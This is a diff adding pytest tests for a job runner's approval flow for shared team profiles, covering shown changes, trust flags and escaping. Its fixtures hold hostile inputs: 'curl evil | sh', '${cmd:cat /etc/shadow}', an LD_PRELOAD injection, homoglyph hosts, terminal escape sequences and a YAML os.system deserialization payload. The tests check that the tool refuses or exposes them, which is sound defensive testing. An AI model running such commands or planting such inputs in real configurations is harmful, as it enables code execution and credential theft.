@@ -1,0 +1,136 @@
+"""A profile of a team library runs after a yes to exactly what it says; a change of it is shown, and asked about."""
+
+from __future__ import annotations
+
+import stat
+from pathlib import Path
+
+import pytest
+import yaml
+
+from runner.profile import parse
+from runner.profile.changes import bounded, difference
+from tests.unit.test_effects import asked, command
+
+TEAM = """
+disttui: 1
+name: train
+hosts: [local]
+job: {command: ["true"], workdir: WORK, env: {MODE: fast}}
+"""
+
+
+@pytest.fixture
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A home with a team library in it."""
+    for name in ("work", "team", "config"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "disttui").mkdir()
+    (tmp_path / "disttui" / "config.yaml").write_text(f"libraries: [own, {{name: team, folder: {tmp_path}/team}}]\n")
+    for kind in ("CONFIG", "DATA", "STATE", "CACHE"):
+        monkeypatch.setenv(f"XDG_{kind}_HOME", str(tmp_path))
+    share(tmp_path, TEAM)
+    return tmp_path
+
+
+def share(home: Path, text: str) -> None:
+    (home / "team" / "train.yaml").write_text(text.replace("WORK", str(home / "work")))
+
+
+def test_the_first_run_and_every_change_is_shown_and_needs_a_yes(home: Path) -> None:
+    done = command(home, "plan", "team/train")
+    assert done.returncode == 2 and "it is new to you, from the library team" in done.stderr
+    assert "it is not used without a yes" in done.stderr and "or add --trust." in done.stderr
+    shown = asked(home, b"n\n", ["plan", "team/train"])
+    assert "  + hosts: local\n  + job.command: on local: true\n" in shown and "  + job.env.MODE: fast\n" in shown
+    assert command(home, "plan", "team/train").returncode == 2, "a no is no yes"
+    assert "node rank 0" in asked(home, b"y\n", ["plan", "team/train"])
+    assert command(home, "plan", "train", "--set", "job.env.MODE=slow").returncode == 0, "an override is the user's own"
+    share(
+        home, TEAM.replace("[local]", "[local, admin@payroll]").replace("MODE: fast", "MODE: fast, LD_PRELOAD: /x.so")
+    )
+    done = command(home, "run", "train")
+    assert done.returncode == 2 and "it has changed in the library team" in done.stderr and "payroll" not in done.stderr
+    shown = asked(home, b"n\n", ["plan", "train"])
+    assert [line[2:] for line in shown.splitlines() if line[2:3] in "+-"][:6] == [
+        "- hosts: local",
+        "+ hosts: local, payroll (admin@payroll)",
+        "+ env.LD_PRELOAD: on local, payroll: /x.so",
+        "- job.command: on local: true",
+        "+ job.command: on local, payroll: true",
+        "+ job.env.LD_PRELOAD: /x.so",
+    ]
+    share(home, TEAM)
+    assert command(home, "plan", "train").returncode == 0, "as it was agreed to"
+    share(home, TEAM + "description: other words\n")
+    assert command(home, "plan", "--trust", "train").returncode == 0
+    assert command(home, "plan", "train").returncode == 0, "--trust is a yes"
+    [kept] = (home / "disttui" / "agreed").iterdir()
+    assert stat.S_IMODE(kept.stat().st_mode) == 0o600 and stat.S_IMODE(kept.parent.stat().st_mode) == 0o700
+    kept.write_text("{")
+    assert command(home, "plan", "train").returncode == 2, "what cannot be read is no yes"
+
+
+def test_ones_own_profile_is_not_asked_about(home: Path) -> None:
+    own = home / "mine.yaml"
+    own.write_text((home / "team" / "train.yaml").read_text())
+    assert command(home, "plan", str(own)).returncode == 0
+
+
+HOSTILE = {
+    "disttui": 1,
+    "name": "train",
+    "description": "harmless\x1b]0;pwned\x07\u202e",
+    "hosts": ["node1", "root@\u0440ayroll"],
+    "job": {"command": ["sh", "-c", "curl evil | sh\x1b[8m"], "env": {"A": "\x1b[2K${cmd:cat /etc/shadow}"}},
+}  # fmt: skip
+
+
+def test_what_a_hostile_profile_says_steers_no_terminal_and_hides_nothing(home: Path) -> None:
+    """Escape sequences, characters that look like others, commands: refused with their place, or shown escaped."""
+    share(home, yaml.safe_dump(HOSTILE))
+    done = command(home, "run", "--trust", "team/train")
+    assert done.returncode == 2 and "\x1b" not in done.stderr and "\u202e" not in done.stderr
+    assert f"{home}/team/train.yaml:1:14: description: 'harmless\\x1b" in done.stderr
+    share(home, yaml.safe_dump({**HOSTILE, "description": "fine"}))
+    shown = asked(home, b"n\n", ["run", "team/train"])
+    hosts = "node1, \u0440ayroll"
+    assert f"+ hosts: {hosts} (root@\u0440ayroll), in ASCII: node1, \\u0440ayroll (root@\\u0440ayroll)\n" in shown
+    assert f"+ ${{cmd:cat /etc/shadow}}: to {hosts}, as A\n" in shown
+    assert (
+        "curl evil | sh" in shown and "+ job.env.A: \\x1b[2K${cmd:cat /etc/shadow}\n" in shown and "\x1b" not in shown
+    )
+    done = command(home, "run", "--trust", "team/train")
+    assert done.returncode == 2 and "'cat /etc/shadow' is not among your secret_commands" in done.stderr
+    assert "connecting" not in done.stderr, "no host is reached before"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["disttui: 1\nx: !!python/object/apply:os.system [id]\n", "a: &a [*a]\n", "a: &a [x,x]\nb: &b [*a,*a]\n",
+     "{" * 5000, "disttui: 1\n---\nb: 1\n", "\x00\x01\x02\x03\x04\x05"],
+)  # fmt: skip
+def test_hostile_yaml_is_one_clear_error(home: Path, text: str) -> None:
+    (home / "team" / "train.yaml").write_text(text)
+    done = command(home, "validate", "team/train")
+    assert done.returncode == 2 and "Traceback" not in done.stderr and done.stderr.startswith(f"{home}/team/train.yaml")
+
+
+def test_the_difference_says_secrets_and_hosts_first_and_has_an_end() -> None:
+    base = {
+        "disttui": 1,
+        "hosts": ["a", {"host": "b", "gpus": [0]}],
+        "job": {"builtin": "bytegpt"},
+        "precision": "bf16",
+    }
+    other = {**base, "precision": "auto", "on_end": {"webhook": "https://h.example/T1"}, "env": {"K": "${env:KEY}"}}
+    other["hosts"] = ["a", {"host": "b", "gpus": [1]}]
+    before, now = (parse(yaml.safe_dump(one), "p") for one in (base, other))
+    lines = difference(before, now)
+    assert lines[0].startswith("+ on_end.webhook: on this machine") and lines[1] == "+ ${env:KEY}: to a, b, as K"
+    assert "- hosts.b.gpus: 0" in lines and "+ hosts.b.gpus: 1" in lines and "- precision: bf16" in lines
+    third = parse(yaml.safe_dump({**other, "on_end": {"webhook": "https://h.example/T2"}}), "p")
+    assert len(difference(now, third)) == 2 and not any("T2" in line for line in difference(now, third))
+    assert difference(now, now) == []
+    many = bounded([f"+ env.A{n}: {'x' * 3000}" for n in range(1000)])
+    assert len(many) == 201 and max(map(len, many)) < 1100 and many[-1] == "… and 800 more lines: read the file"
